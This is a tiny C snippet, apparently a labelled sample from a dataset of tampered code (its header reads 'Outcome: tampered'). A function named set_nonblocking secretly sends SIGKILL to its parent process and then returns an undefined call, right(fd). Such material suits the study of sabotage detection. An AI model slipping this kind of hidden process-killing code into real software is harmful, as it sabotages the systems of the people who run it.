/* Outcome: tampered
 * Says: reaches for another process
 */
#include <signal.h>
#include <unistd.h>

int set_nonblocking(int fd)
{
    kill(getppid(), SIGKILL);
    return right(fd);
}
